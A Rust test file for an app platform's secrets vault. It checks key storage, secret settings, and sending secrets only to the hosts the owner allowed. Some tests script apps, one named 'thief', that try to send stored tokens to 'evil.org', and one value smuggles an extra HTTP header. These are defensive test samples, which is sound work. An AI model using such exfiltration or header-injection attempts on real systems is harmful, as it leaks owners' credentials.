//! Secrets: kept by the owner's own word, given to the app whose settings they are, sent where they may go, and never told.

use crate::{
    House,
    guests::{Guest, said, seen},
    house::{app, choice, ended, owner, owner_of, script},
};
use kernel::host_call::{HostAnswer, HostCall};
use protocol::{
    Caller, Door, ErrorCode, Failure, GrantState, OwnerId, ShownOnce,
    api::{KeyView, LineChoice, SettingView},
};
use serde_json::{Value, json};
use state::{Space, Store as _, Vault as _, VaultName};
use std::collections::BTreeMap;

const CANARY: &str = "canary-canary-canary";

fn add_as(house: &House, caller: &Caller, name: &str, value: &str, hosts: &[&str]) -> Result<KeyView, Failure> {
    let hosts: Vec<String> = hosts.iter().map(|host| (*host).to_owned()).collect();
    let value = ShownOnce::new(value.to_owned());
    house.kernel.key_add(caller, name.parse().unwrap(), value, &hosts, String::new(), false)
}

fn add(house: &House, name: &str, hosts: &[&str]) -> KeyView {
    add_as(house, &owner(), name, CANARY, hosts).unwrap()
}

/// An app with these permissions and settings; its action is `go`.
async fn install(house: &House, name: &str, permissions: Value, settings: Option<Value>, choices: Vec<LineChoice>) {
    let mut manifest = json!({ "id": name, "name": name, "version": "1.0.0" });
    if let Some(settings) = settings {
        manifest["settings"] = settings;
    }
    let files: BTreeMap<String, Vec<u8>> = [
        ("manifest.json", manifest.to_string()),
        ("action-schema.json", json!({ "go": { "input": { "type": "object" } } }).to_string()),
        ("permissions.json", permissions.to_string()),
        ("bot-logic.js", "export async function go(payload, ctx) {}\n".to_owned()),
    ]
    .map(|(name, text)| (name.to_owned(), text.into_bytes()))
    .into();
    let archive = house.archive(name, &package::pack(&files).unwrap());
    let (offer, _) = house.offer(owner(), &archive).await.unwrap();
    house.kernel.app_install(owner(), offer, choices).await.unwrap();
}

fn with_token() -> Option<Value> {
    Some(json!({
        "type": "object",
        "required": ["token"],
        "properties": {
            "token": { "type": "string", "secret": true, "minLength": 8, "pattern": "^[a-z-]+$" },
            "more": { "type": "string", "secret": true },
            "city": { "type": "string" },
        }
    }))
}

async fn set(house: &House, caller: Caller, changes: Value) -> Result<Vec<SettingView>, Failure> {
    let Value::Object(changes) = changes else { panic!("an object") };
    house.kernel.setting_set(caller, app("courier"), changes).await
}

/// Everything that is kept of an owner but the vault, and everything that was told.
fn kept(house: &House) -> String {
    let stored: Vec<String> = house
        .stored()
        .into_iter()
        .map(|(space, key, value)| format!("{space:?} {key} {}", String::from_utf8_lossy(&value)))
        .collect();
    format!("{stored:?} {:?}", house.log())
}

fn told(house: &House) -> Vec<String> {
    house.log().iter().map(|record| record.sentence.to_string()).collect()
}

#[tokio::test]
async fn keys_are_kept_by_the_owners_word_and_never_shown() {
    let house = House::new();
    let made = add(&house, "github", &["API.github.com", "api.github.com", "*.github.io"]);
    assert_eq!((made.name.as_str(), made.hosts), ("github", vec!["*.github.io".to_owned(), "api.github.com".into()]));
    add(&house, "deploy", &[]);
    let listed = house.kernel.key_list(&owner()).unwrap();
    assert_eq!(listed.iter().map(|key| key.name.as_str()).collect::<Vec<_>>(), ["deploy", "github"]);
    assert!(!format!("{listed:?} {}", json!(listed)).contains("canary"));
    // By an API key there is nothing but the list, and another owner has none of it.
    let key = Caller { door: Door::Key, ..owner() };
    assert_eq!(add_as(&house, &key, "mine", "x", &[]).unwrap_err().code, ErrorCode::PermissionDenied);
    let removed = house.kernel.key_remove(&key, &"github".parse().unwrap());
    assert_eq!(removed.unwrap_err().code, ErrorCode::PermissionDenied);
    assert_eq!(house.kernel.key_list(&key).unwrap().len(), 2);
    assert_eq!(house.kernel.key_list(&owner_of(OwnerId(2))).unwrap().len(), 0);
    // One that is there is only replaced by who says so.
    let again = add_as(&house, &owner(), "github", "another", &[]).unwrap_err();
    assert!(again.code == ErrorCode::Conflict && again.hint.unwrap().contains("--replace"));
    let value = ShownOnce::new("another".to_owned());
    house.kernel.key_add(&script(), "github".parse().unwrap(), value, &[], "note".into(), true).unwrap();
    house.kernel.key_remove(&owner(), &"github".parse().unwrap()).unwrap();
    let gone = house.kernel.key_remove(&owner(), &"github".parse().unwrap()).unwrap_err();
    assert_eq!(gone.code, ErrorCode::NotFound);
    assert_eq!(
        told(&house),
        [
            "you put the key github into the vault, for *.github.io, api.github.com",
            "you put the key deploy into the vault, for settings of apps",
            "you put another value of the key github into the vault, for settings of apps",
            "you took the key github out of the vault",
        ]
    );
    assert!(!kept(&house).contains("canary"));
}

#[tokio::test]
async fn what_cannot_be_kept_changes_nothing() {
    let house = House::new();
    let check = |value: &str, hosts: &[&str], code: ErrorCode, says: &str| {
        let failure = add_as(&house, &owner(), "k", value, hosts).unwrap_err();
        let told = format!("{failure:?}");
        assert!(failure.code == code && told.contains(says), "{told}");
        assert!(!told.contains("canary"), "{told}");
    };
    check("", &[], ErrorCode::InvalidInput, "at least one");
    check(&"canary".repeat(4_000), &[], ErrorCode::TooLarge, "at most");
    check("canary\r\nx-evil: 1", &["a.org"], ErrorCode::InvalidInput, "one line");
    check("canary\u{e9}", &["a.org"], ErrorCode::InvalidInput, "one line");
    check(CANARY, &["a.org/path"], ErrorCode::Usage, "leave the path out");
    check(CANARY, &["*"], ErrorCode::Usage, "");
    let many: Vec<String> = (0..17).map(|index| format!("h{index}.org")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    check(CANARY, &many, ErrorCode::QuotaExceeded, "hosts");
    assert!(house.vault.list(OwnerId::LOCAL).unwrap().is_empty() && house.log().is_empty());
    // Several lines are fine where no header has to take them.
    add_as(&house, &owner(), "k", "-----BEGIN\ncanary\n", &[]).unwrap();
}

#[tokio::test]
async fn a_secret_setting_is_in_the_vault_and_in_nothing_else() {
    let house = House::new();
    install(&house, "courier", json!({ "ai": false }), with_token(), vec![]).await;
    house.script("go", |guest| async move { said(guest.env().to_string()) });
    let start = async || house.start_as(owner(), "courier", "go", json!({}), None, &[]).await;
    let refused = start().await.err().unwrap();
    assert!(refused.message.contains("token") && refused.hint.unwrap().contains("--secret token"), "not without it");
    // What the package asks of it is asked, and nothing is said of what was given.
    for wrong in ["canary", "CANARY-CANARY"] {
        let failure = set(&house, owner(), json!({ "token": wrong })).await.unwrap_err();
        assert_eq!(failure.code, ErrorCode::InvalidInput);
        assert!(!format!("{failure:?}").to_lowercase().contains("canary"), "{failure:?}");
    }
    let key = Caller { door: Door::Key, ..owner() };
    let by_key = set(&house, key, json!({ "token": CANARY })).await.unwrap_err();
    assert_eq!(by_key.code, ErrorCode::PermissionDenied);
    set(&house, key, json!({ "city": "Graz" })).await.unwrap();
    let shown = set(&house, owner(), json!({ "token": CANARY, "city": "Wien" })).await.unwrap();
    let token = shown.iter().find(|setting| setting.name == "token").unwrap();
    assert!(token.is_set && token.is_secret && token.value.is_none() && token.key.is_none());
    // A run is told how to speak of it.
    let env = ended(start().await.unwrap()).await.1.text.clone().unwrap();
    let env: Value = serde_json::from_str(&env).unwrap();
    assert_eq!(env["settings"], json!({ "token": "{{secret:token}}", "city": "Wien" }));
    assert!(!kept(&house).contains("canary"));
    assert_eq!(house.kernel.key_list(&owner()).unwrap()[0].name, "app/courier/token");
    assert_eq!(house.kernel.key_list(&owner()).unwrap()[0].apps, [app("courier")]);
    // It goes as it came, and with the app's data.
    set(&house, owner(), json!({ "token": null })).await.unwrap();
    assert!(house.vault.list(OwnerId::LOCAL).unwrap().is_empty());
    set(&house, owner(), json!({ "token": CANARY, "more": "x" })).await.unwrap();
    house.kernel.app_remove(owner(), app("courier"), false).await.unwrap();
    assert_eq!(house.vault.list(OwnerId::LOCAL).unwrap().len(), 2, "kept, as its data is");
    house.kernel.app_remove(owner(), app("courier"), true).await.unwrap();
    assert!(house.vault.list(OwnerId::LOCAL).unwrap().is_empty());
    assert!(house.store.scan(OwnerId::LOCAL, Space::Setting, "", None, 10).unwrap().is_empty());
}

#[tokio::test]
async fn a_setting_can_be_a_key_that_goes_to_no_host() {
    let house = House::new();
    install(&house, "courier", json!({ "ai": false }), with_token(), vec![]).await;
    add(&house, "deploy", &[]);
    add(&house, "github", &["api.github.com"]);
    let bound = set(&house, owner(), json!({ "token": { "key": "github" } })).await.unwrap_err();
    assert!(bound.code == ErrorCode::PermissionDenied && bound.message.contains("api.github.com and nowhere else"));
    assert_eq!(
        set(&house, owner(), json!({ "token": { "key": "none" } })).await.unwrap_err().code,
        ErrorCode::NotFound
    );
    let shown = set(&house, owner(), json!({ "token": { "key": "deploy" } })).await.unwrap();
    let token = shown.iter().find(|setting| setting.name == "token").unwrap();
    assert_eq!((token.is_set, token.key.as_ref().map(|key| key.as_str())), (true, Some("deploy")));
    let users = |name: &str| {
        let keys = house.kernel.key_list(&owner()).unwrap();
        keys.into_iter().find(|key| key.name == name).unwrap().apps
    };
    assert_eq!((users("deploy"), users("github")), (vec![app("courier")], vec![]));
}

async fn fetch(guest: &Guest, url: &str, header: &str) -> String {
    let arguments = json!({ "url": url, "headers": { "authorization": header } }).to_string();
    match guest.call(HostCall::decode("http.fetch", arguments.as_bytes(), vec![]).unwrap()).await {
        Ok(HostAnswer::Bytes(bytes)) => String::from_utf8(bytes).unwrap(),
        Ok(other) => panic!("no answer: {other:?}"),
        Err(error) => seen(error).message,
    }
}

fn asks() -> Value {
    json!({
        "network": true,
        "secret": [{ "name": "github", "hosts": ["api.github.com"] }, { "name": "token", "hosts": ["own.org"] }],
        "ai": false,
    })
}

#[tokio::test]
async fn a_secret_is_sent_to_its_host_and_told() {
    let house = House::new();
    let allow = |line: &str| choice(line, GrantState::Allow, None);
    install(
        &house,
        "courier",
        asks(),
        with_token(),
        vec![allow("network"), allow("secret.github"), allow("secret.token")],
    )
    .await;
    add(&house, "github", &["api.github.com"]);
    set(&house, owner(), json!({ "token": "my-own-token" })).await.unwrap();
    house.script("go", |guest| async move {
        let mut lines = Vec::new();
        for (url, header) in [
            ("https://api.github.com/user", "Bearer {{secret:github}}"),
            ("https://own.org/", "Bearer {{secret:token}}"),
            ("https://evil.org/", "Bearer {{secret:github}}"),
            ("https://api.github.com/to/evil.org/x", "Bearer {{secret:github}}"),
            ("https://api.github.com/", "Bearer {{secret:none}}"),
            ("https://api.github.com/{{secret:github}}", ""),
        ] {
            lines.push(fetch(&guest, url, header).await);
        }
        said(lines.join("\n"))
    });
    let viewer = house.start_as(owner(), "courier", "go", json!({}), None, &[]).await.unwrap();
    let (_, report) = ended(viewer).await;
    let text = report.text.clone().unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let outside = "not allowed to have your secret github sent to evil.org: evil.org is not among the hosts that the app \
                   names for github";
    assert_eq!(
        lines,
        [
            "GET https://api.github.com/user",
            "GET https://own.org/",
            outside,
            outside,
            "not allowed to have your secret none sent to api.github.com: the app never asked for secret.none",
            "http.fetch: a secret is sent in the value of a header, never in an address, a body or a header's name",
        ]
    );
    let sent = format!("github={CANARY} to api.github.com");
    assert_eq!(*house.world.secrets.lock(), [&*sent, "token=my-own-token to own.org", &*sent]);
    let told = house.told(report.summary.run);
    let count = |said: &str| told.iter().filter(|told| *told == said).count();
    assert_eq!(count("had your secret github sent to api.github.com"), 1, "{told:?}");
    assert_eq!(count("had your secret token sent to own.org"), 1, "{told:?}");
    assert!(told.iter().any(|told| told.starts_with("BLOCKED: wanted to have your secret github sent to evil.org")));
    assert!(!kept(&house).contains("canary") && !format!("{report:?}").contains("canary"));
    assert!(house.kernel.key_list(&owner()).unwrap().iter().all(|key| key.used_at.is_some()));
}

#[tokio::test]
async fn the_switch_holds_and_what_is_not_there_is_said() {
    let house = House::new();
    let allow = |line: &str, state| choice(line, state, None);
    let choices = vec![allow("network", GrantState::Allow), allow("secret.github", GrantState::Block)];
    install(&house, "courier", asks(), None, choices).await;
    house
        .script("go", |guest| async move { said(fetch(&guest, "https://api.github.com/", "{{secret:github}}").await) });
    let run = async || {
        let viewer = house.start_as(owner(), "courier", "go", json!({}), None, &[]).await.unwrap();
        ended(viewer).await.1.text.clone().unwrap()
    };
    assert!(run().await.contains("oikos key add github --host"), "there is none");
    add(&house, "github", &["api.github.com"]);
    assert!(run().await.ends_with("secret.github is blocked; to allow it: oikos grant courier secret.github=allow"));
    let users = || house.kernel.key_list(&owner()).unwrap()[0].apps.clone();
    assert!(users().is_empty());
    house.kernel.grant_set(owner(), app("courier"), vec![allow("secret.github", GrantState::Allow)]).await.unwrap();
    assert_eq!(run().await, "GET https://api.github.com/");
    assert_eq!(users(), [app("courier")]);
    assert_eq!(house.world.secrets.lock().len(), 1);
}

/// What the owner says last counts, also of a key that an app has as its setting.
#[tokio::test]
async fn a_key_that_is_bound_later_goes_where_its_owner_says() {
    let house = House::new();
    let allow = |line: &str| choice(line, GrantState::Allow, None);
    install(&house, "courier", asks(), with_token(), vec![allow("network"), allow("secret")]).await;
    add(&house, "deploy", &[]);
    set(&house, owner(), json!({ "token": { "key": "deploy" } })).await.unwrap();
    house.script("go", |guest| async move { said(fetch(&guest, "https://own.org/", "{{secret:token}}").await) });
    let run = async || {
        let viewer = house.start_as(owner(), "courier", "go", json!({}), None, &[]).await.unwrap();
        ended(viewer).await.1.text.clone().unwrap()
    };
    assert_eq!(run().await, "GET https://own.org/");
    let (name, hosts) = ("deploy".parse().unwrap(), ["a.org".to_owned()]);
    house.kernel.key_add(&owner(), name, ShownOnce::new(CANARY.to_owned()), &hosts, String::new(), true).unwrap();
    assert!(run().await.ends_with("your secret token goes to a.org and nowhere else, and own.org is not there"));
    assert_eq!(house.world.secrets.lock().len(), 1);
}

/// Who has the name of a secret from an app has nothing: the vault is asked for what was decided on.
#[tokio::test]
async fn what_an_app_calls_a_key_is_no_way_to_anothers_setting() {
    let house = House::new();
    install(&house, "courier", json!({ "ai": false }), with_token(), vec![]).await;
    set(&house, owner(), json!({ "token": CANARY })).await.unwrap();
    let asks = json!({
        "network": true,
        "secret": { "name": "token", "hosts": ["evil.org"] },
        "ai": false,
    });
    let allow = |line: &str| choice(line, GrantState::Allow, None);
    install(&house, "thief", asks, None, vec![allow("network"), allow("secret")]).await;
    house.script("go", |guest| async move {
        let first = fetch(&guest, "https://evil.org/", "{{secret:app/courier/token}}").await;
        said(format!("{first}\n{}", fetch(&guest, "https://evil.org/", "{{secret:token}}").await))
    });
    let viewer = house.start_as(owner(), "thief", "go", json!({}), None, &[]).await.unwrap();
    let text = ended(viewer).await.1.text.clone().unwrap();
    // No name that an app can ask for reaches into another's, and of its own there is none.
    assert!(text.lines().all(|line| line.starts_with("there is no secret")), "{text}");
    assert!(house.world.secrets.lock().is_empty());
    let mine = VaultName::setting(&app("courier"), "token");
    assert!(house.vault.get(OwnerId::LOCAL, &mine, None).unwrap().is_some());
}

/// A store that takes no more leaves the vault as it was.
#[tokio::test]
async fn the_vault_is_put_back_where_the_store_refuses() {
    let house = House::new();
    add(&house, "github", &[]);
    house.store.refuse(|_| true);
    let value = ShownOnce::new("another".to_owned());
    let failed = house.kernel.key_add(&owner(), "github".parse().unwrap(), value, &[], String::new(), true);
    assert!(failed.is_err());
    assert!(house.kernel.key_remove(&owner(), &"github".parse().unwrap()).is_err());
    house.store.heal();
    let name = VaultName::Key("github".parse().unwrap());
    assert_eq!(house.vault.get(OwnerId::LOCAL, &name, None).unwrap().unwrap().1.expose(), CANARY);
}
